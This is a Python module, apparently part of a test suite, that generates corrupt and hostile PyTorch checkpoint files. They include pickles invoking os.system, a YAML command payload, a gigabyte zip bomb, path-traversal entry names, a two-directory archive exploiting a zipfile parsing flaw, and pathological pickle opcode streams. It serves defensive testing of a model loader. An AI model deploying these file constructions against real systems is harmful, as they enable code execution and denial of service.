"""Files that are not what torch.save writes: other kinds, damaged archives, and archives that say two things."""

import copy
import io
import os
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any, NamedTuple

import torch

from benchmarks.faults.attacks.table import Aim, Attack, Content, Reduced

ATTACKS: dict[str, Attack] = {}
ZEROS = 2**30  # bytes that a bomb's entry unpacks to


def saved(content: Content, **settings: Any) -> bytes:
    buffer = io.BytesIO()
    torch.save(content, buffer, **settings)
    return buffer.getvalue()


def entries(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as file:
        return {name: file.read(name) for name in file.namelist()}


def zipped(parts: list[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as file:
        for name, data in parts:
            file.writestr(name, data)
    return buffer.getvalue()


def archive(
    change: Callable[[list[tuple[str, bytes]]], list[tuple[str, bytes]]], compression: int = zipfile.ZIP_STORED
) -> Attack:
    """The attack that zips changed entries."""
    return lambda content, aim: zipped(change([*entries(saved(content)).items()]), compression)


def named(parts: list[tuple[str, bytes]], ending: str) -> int:
    return next(number for number, (name, _) in enumerate(parts) if name.endswith(ending))


def swapped(ending: str, change: Callable[[bytes], bytes]) -> Attack:
    def other(parts: list[tuple[str, bytes]]) -> list[tuple[str, bytes]]:
        at = named(parts, ending)
        parts[at] = parts[at][0], change(parts[at][1])
        return parts

    return archive(other)


def bomb(count: int) -> bytes:
    """So many zeros deflated, by repetition of one block; of no other use than to be unpacked."""
    block, packer = bytes(2**20), zlib.compressobj(9, zlib.DEFLATED, -15)
    once = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    return once * (count // len(block)) + packer.flush()


def spread(count: int) -> Attack:
    """A pickle that gives one long text as the arguments of many calls: each character would become one of them."""
    text = b"x" * 10**6
    begin = b"\x80\x02X" + struct.pack("<I", len(text)) + text + b"q\x000ccollections\nOrderedDict\nq\x010"
    pickled = begin + b"h\x01h\x00R0" * count + b"}."
    return swapped("data.pkl", lambda _: pickled)


ATTACKS["archive_spread_text"] = spread(10_000)


class Packed(NamedTuple):
    """An entry of an archive as it lies there: packed bytes, and what the directory says of them."""

    data: bytes
    size: int
    method: int
    checksum: int


def stored(data: bytes) -> Packed:
    return Packed(data, len(data), zipfile.ZIP_STORED, zlib.crc32(data))


def packed(parts: dict[str, Packed], offset: int = 0) -> tuple[bytes, bytes]:
    """The body and the directory of an archive that begins at an offset, by hand: zipfile would write only what is true."""
    body, directory = b"", b""
    for name, (data, size, method, checksum) in parts.items():
        fields = struct.pack("<HHHHHIIIH", 20, 0, method, 0, 0, checksum, len(data), size, len(name))
        place = struct.pack("<HHHHII", 0, 0, 0, 0, 0, offset + len(body))
        directory += b"PK\1\2" + struct.pack("<H", 20) + fields + place + name.encode()
        body += b"PK\3\4" + fields + struct.pack("<H", 0) + name.encode() + data
    return body, directory


def bombed(content: Content, aim: Aim) -> bytes:
    """An archive one of whose weights unpacks to a gigabyte."""
    parts = {name: stored(data) for name, data in entries(saved(content)).items()}
    first = next(name for name in parts if name.endswith("/data/0"))
    parts[first] = Packed(bomb(ZEROS), ZEROS, zipfile.ZIP_DEFLATED, 0)
    body, directory = packed(parts)
    return body + directory + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, len(parts), len(parts), len(directory), len(body), 0)


def two_directories(content: Content, aim: Aim) -> bytes:
    """Two archives in one file: the end names a directory of the hostile one, and the good one's lies where some readers look.

    The end of a large archive lies where its locator says. A reader that takes what lies before the locator instead, as Python's
    zipfile did (CVE-2025-8291), checks one archive while torch reads the other.
    """
    good = {name: stored(data) for name, data in entries(saved(content)).items()}
    hostile = good | {name: stored(hostile_pickle(aim)) for name in good if name.endswith("data.pkl")}
    first, shown = packed(good)
    second, hidden = packed(hostile, len(first))

    def end(directory: bytes, at: int) -> bytes:
        return b"PK\6\6" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, len(good), len(good), len(directory), at)

    data = first + second
    data += hidden + end(hidden, len(data))
    locator = b"PK\6\7" + struct.pack("<IQI", 0, len(data) - 56, 1)
    data += shown + end(shown, len(data)) + locator
    return data + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)


def hostile_pickle(aim: Aim) -> bytes:
    return pickle.dumps(Reduced(os.system, (f"touch {aim.pwn}/x",)), 2)


def flipped(data: bytes, at: int) -> bytes:
    return data[:at] + bytes([data[at] ^ 16]) + data[at + 1 :]


def script(content: Content, aim: Aim) -> bytes:
    """An archive of TorchScript, which holds code."""
    buffer = io.BytesIO()
    torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), buffer)
    return buffer.getvalue()


def two_contents(content: Content, aim: Aim) -> bytes:
    """Two entries of one name: the first is good, the second names code; a reader takes one of them."""
    other = copy.deepcopy(content)
    other["hyper_parameters"]["model"]["codec"] = {"_target_": "torch.utils.collect_env.run", "command": f"touch {aim.pwn}/x"}
    parts = [*entries(saved(content)).items()]
    name = parts[named(parts, "data.pkl")][0]
    return zipped([*parts, (name, entries(saved(other))[name])])


ATTACKS |= {
    "file_empty": lambda content, aim: b"",
    "file_text": lambda content, aim: b"hello",
    "file_zeros": lambda content, aim: bytes(10**6),
    "file_truncated": lambda content, aim: saved(content)[:-1000],
    "file_half": lambda content, aim: (data := saved(content))[: len(data) // 2],
    "file_with_more_behind": lambda content, aim: saved(content) + b"x" * 10**5,
    "file_with_more_before": lambda content, aim: b"x" * 1000 + saved(content),
    "file_twice": lambda content, aim: saved(content) * 2,
    "file_flipped_in_weights": lambda content, aim: flipped(data := saved(content), int(len(data) * 0.6)),
    "file_flipped_in_pickle": lambda content, aim: flipped(data := saved(content), data.find(b"condiff.training") + 3),
    "file_flipped_in_directory": lambda content, aim: flipped(data := saved(content), len(data) - 60),
    "file_legacy": lambda content, aim: saved(content, _use_new_zipfile_serialization=False),
    "file_legacy_hostile": lambda content, aim: saved(
        content | {"x": Reduced(os.system, (f"touch {aim.pwn}/x",))}, _use_new_zipfile_serialization=False
    ),
    "file_pickle": lambda content, aim: hostile_pickle(aim),
    "file_script": script,
    "file_hdf5": lambda content, aim: b"\x89HDF\r\n\x1a\n" + bytes(1000),
    "file_gzip": lambda content, aim: b"\x1f\x8b" + bytes(100),
    "file_yaml": lambda content, aim: b"!!python/object/apply:os.system ['exit']",
    "archive_hostile_pickle": lambda content, aim: swapped("data.pkl", lambda _: hostile_pickle(aim))(content, aim),
    "archive_two_contents": two_contents,
    "archive_bomb": bombed,
    "archive_two_directories": two_directories,
    "archive_compressed": archive(lambda parts: parts, zipfile.ZIP_DEFLATED),
    "archive_empty": archive(lambda parts: []),
    "archive_without_pickle": archive(lambda parts: [part for part in parts if not part[0].endswith("data.pkl")]),
    "archive_without_weights": archive(lambda parts: [part for part in parts if "/data/" not in part[0]]),
    "archive_weights_short": swapped("/data/0", lambda data: data[: len(data) // 2]),
    "archive_weights_long": swapped("/data/0", lambda data: data * 100),
    "archive_pickle_empty": swapped("data.pkl", lambda data: b""),
    "archive_pickle_cut": swapped("data.pkl", lambda data: data[:500]),
    "archive_pickle_twice": swapped("data.pkl", lambda data: data * 2),
    "archive_version": swapped("version", lambda data: b"9" * 1000),
    "archive_byteorder": swapped("byteorder", lambda data: b"middle"),
    "archive_other_byteorder": swapped("byteorder", lambda data: b"big"),
    "archive_absolute_names": lambda content, aim: archive(
        lambda parts: [*parts, (f"{aim.pwn}/x", b"x"), (f"../../../../../../../..{aim.pwn}/y", b"x")]
    )(content, aim),
    "archive_many_entries": archive(lambda parts: [*parts, *((f"archive/data/x{i}", b"") for i in range(70000))]),
    "archive_code": archive(
        lambda parts: [*parts, ("archive/code/__torch__.py", b"import os"), ("archive/constants.pkl", b"\x80\x02].")]
    ),
}

DEEP, WIDE = 10**6, 10**6
OPCODES = {  # streams of pickle's own, which no pickler writes
    "deep_list": b"\x80\x02" + b"]" * DEEP + b"a" * (DEEP - 1) + b".",
    "deep_tuple_as_key": b"\x80\x02}" + b")" + b"\x85" * DEEP + b"Ns.",
    "deep_tuple_in_set": b"\x80\x02c__builtin__\nset\n](" + b")" + b"\x85" * DEEP + b"e\x85R.",
    "doubled_list": b"\x80\x02]q\0" + b"".join(b"](h%ch%ceq%c" % (n, n, n + 1) for n in range(60)) + b".",
    "long_number": b"\x80\x02\x8b" + struct.pack("<I", 2**31 - 1) + b"\1" * 100 + b".",
    "long_text": b"\x80\x02X" + struct.pack("<I", 2**32 - 1) + b"x.",
    "no_stop": b"\x80\x02]" * 100,
    "pop_of_nothing": b"\x80\x020.",
    "memory_unset": b"\x80\x02h\x05.",
    "memory_negative": b"\x80\x02r\xff\xff\xff\xff.",
    "protocol": b"\x80\xff].",
    "persistent_text": b"\x80\x02X\1\0\0\0xQ.",
    "persistent_path": b"\x80\x02(X\x07\0\0\0storagectorch\nFloatStorage\nX\x0d\0\0\0../../../../xX\x03\0\0\0cpuK\x01tQ.",
    "persistent_size": b"\x80\x02(X\x07\0\0\0storagectorch\nFloatStorage\nX\1\0\0\x000X\x03\0\0\0cpu\x8a\x08"
    + b"\0" * 7
    + b"\x7ftQ.",
    "persistent_device": b"\x80\x02(X\x07\0\0\0storagectorch\nFloatStorage\nX\1\0\0\x000X\x06\0\0\0evil:9K\x01tQ.",
    "build_tensor": b"\x80\x02ctorch\nTensor\n)R(K\x01K\x02tb.",
    "build_dictionary": b"\x80\x02ccollections\nOrderedDict\n)R}X\x05\0\0\0itemsNsb.",
    "items_of_a_number": b"\x80\x02K\x05(K\x01K\x02u.",
    "set_of_lists": b"\x80\x02c__builtin__\nset\n]]a\x85R.",
}
for name, stream in OPCODES.items():
    ATTACKS[f"stream_{name}"] = swapped("data.pkl", lambda _, stream=stream: stream)
